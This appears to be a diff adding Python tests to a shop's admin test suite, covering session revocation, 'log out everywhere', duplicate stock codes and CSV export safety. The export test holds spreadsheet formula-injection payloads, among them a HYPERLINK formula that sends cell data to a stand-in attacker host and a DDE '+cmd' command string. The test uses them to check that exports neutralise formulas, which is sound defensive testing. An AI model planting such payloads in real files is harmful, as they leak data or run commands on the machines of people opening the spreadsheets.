@@ -1,5 +1,6 @@
 """The owner's admin over real HTTP: access control, every action's effect and its audit row."""
 
+import csv
 import html
 import io
 import json
@@ -522,3 +523,94 @@ def test_one_photo_for_a_batch_of_units_is_stored_once(admin):
                files={"media": ("l.png", png(), "image/png")})
     assert conn.execute("SELECT count(DISTINCT media), count(*) FROM stock_units").fetchone()[:] == (1, 50)
     assert len(list((admin.shop.config.media_dir / "private").iterdir())) == 1
+
+
+# Trust under pressure (issue 10)
+
+def session_works(a):
+    return a.get("/admin", allow_redirects=False).status_code == 200
+
+
+def test_changing_the_password_ends_every_session(make_shop, tmp_path):
+    s = make_shop(env={"ADMIN_PASSWORD": PASSWORD})
+    phone, desk = Admin(s), Admin(s)
+    assert phone.login().status_code == 303 and desk.login().status_code == 303
+    s.stop()
+    env = {"SHOP_DB": s.config.shop_db}
+    # A restart with the same ADMIN_PASSWORD keeps them; another password ends them, across the restart.
+    same = make_shop(env={**env, "ADMIN_PASSWORD": PASSWORD})
+    phone.shop = desk.shop = same
+    assert session_works(phone) and session_works(desk)
+    same.stop()
+    changed = make_shop(env={**env, "ADMIN_PASSWORD": "a brand new password"})
+    phone.shop = desk.shop = changed
+    assert not session_works(phone) and not session_works(desk)
+    conn = shop.connect(s.config.shop_db)
+    assert conn.execute("SELECT count(*) FROM admin_sessions").fetchone()[0] == 0
+    assert "admin sessions ended" in audit_actions(conn)
+    changed.stop()
+    # Without ADMIN_PASSWORD: `python shop.py admin-password` while the shop runs ends the sessions at once.
+    stored = make_shop(env=env)
+    owner = Admin(stored)
+    assert owner.login(stored.new_admin_password).status_code == 303 and session_works(owner)
+    r = subprocess.run([sys.executable, str(ROOT / "shop.py"), "admin-password", "another long secret"], cwd=tmp_path,
+                       env={"SHOP_DB": s.config.shop_db, "PATH": __import__("os").environ["PATH"]},
+                       capture_output=True, text=True, timeout=30)
+    assert r.returncode == 0, r.stderr
+    assert not session_works(owner)
+    assert owner.login("another long secret").status_code == 303 and session_works(owner)
+    conn.close()
+
+
+def test_log_out_everywhere_ends_every_browsers_session(admin):
+    other = Admin(admin.shop)
+    assert other.login().status_code == 303
+    page = admin.get("/admin/settings").text
+    assert "Log out everywhere" in page and page.count("since ") == 2 and page.count("this browser") == 1
+    r = admin.post("/admin/logout-everywhere")
+    assert r.status_code == 303 and r.headers["Location"].endswith("/admin/login")
+    assert not session_works(admin) and not session_works(other)
+    assert admin.shop.conn.execute("SELECT count(*) FROM admin_sessions").fetchone()[0] == 0
+    assert audit_actions(admin.shop.conn)[-1] == "logged out everywhere"
+    assert admin.post("/admin/logout-everywhere", csrf=False).status_code == 303   # (to the login: no session)
+
+
+def test_exported_cells_never_become_spreadsheet_formulas(admin):
+    conn = admin.shop.conn
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    ids = seed(conn, [("Berlin", "Mitte", formula, 2500, 1), ("Berlin", "Mitte", "@SUM(1+1)", 100, 1)])
+    buyer = user(conn, 21, balance=10000)
+    shop.buy_with_balance(conn, buyer, [(*ids[(formula, "Mitte")], 1)])
+    shop.buy_with_balance(conn, buyer, [(*ids[("@SUM(1+1)", "Mitte")], 1)])
+    shop.adjust_balance(conn, buyer, -500, "+cmd|' /C calc'!A0")
+    shop.adjust_balance(conn, buyer, 100, "-2+3")
+    conn.execute("UPDATE users SET username = ? WHERE id = ?", ("\t=1+1", buyer))   # as a forged initData could
+    orders_csv = list(csv.reader(io.StringIO(admin.get("/admin/export/orders.csv").text)))
+    items = [row[-1] for row in orders_csv[1:]]
+    assert items == ["'" + formula + " @ Berlin / Mitte", "'@SUM(1+1) @ Berlin / Mitte"]
+    ledger = list(csv.reader(io.StringIO(admin.get("/admin/export/ledger.csv").text)))
+    reasons = [row[6] for row in ledger[1:]]
+    assert reasons[-2:] == ["'+cmd|' /C calc'!A0", "'-2+3"]
+    assert [row[3] for row in ledger[1:]][-2:] == ["-5.00", "1.00"]     # numbers stay numbers
+    orders_csv = list(csv.reader(io.StringIO(admin.get("/admin/export/orders.csv").text)))
+    assert [row[7] for row in orders_csv[1:]] == ["'\t=1+1"] * 2
+    for row in orders_csv[1:] + ledger[1:]:
+        for cell in row:
+            assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not re.fullmatch(r"-[\d.]+", cell))
+
+
+def test_adding_units_never_adds_a_code_twice(admin):
+    conn = admin.shop.conn
+    ids = seed(conn, [("Berlin", "Mitte", "Gift card", 2500, 0)])
+    product, district = ids[("Gift card", "Mitte")]
+    page = f"/admin/products/{product}"
+    admin.post(f"{page}/units", {"district_id": district, "units": "A1\nA2\nA1"})
+    assert admin.flash(page).startswith("2 units added. 1 skipped: repeated in what you pasted, added once (A1).")
+    admin.post(f"{page}/units", {"district_id": district, "units": "A1\nA3"})
+    assert admin.flash(page).startswith("1 unit added. 1 skipped: already in the shop for this product and district")
+    shop.buy_with_balance(conn, user(conn, 22, balance=2500), [(product, district, 1)])      # A1 is sold now
+    admin.post(f"{page}/units", {"district_id": district, "units": "A1\nA2\nA3"})
+    assert admin.flash(page).startswith("0 units added. 3 skipped: already in the shop")
+    assert sorted(c for (c,) in conn.execute("SELECT content FROM stock_units")) == ["A1", "A2", "A3"]
+    assert audit_actions(conn)[-1] == "units added"
+    assert "skipped 3 already in the shop" in conn.execute("SELECT details FROM audit_log ORDER BY id DESC").fetchone()[0]
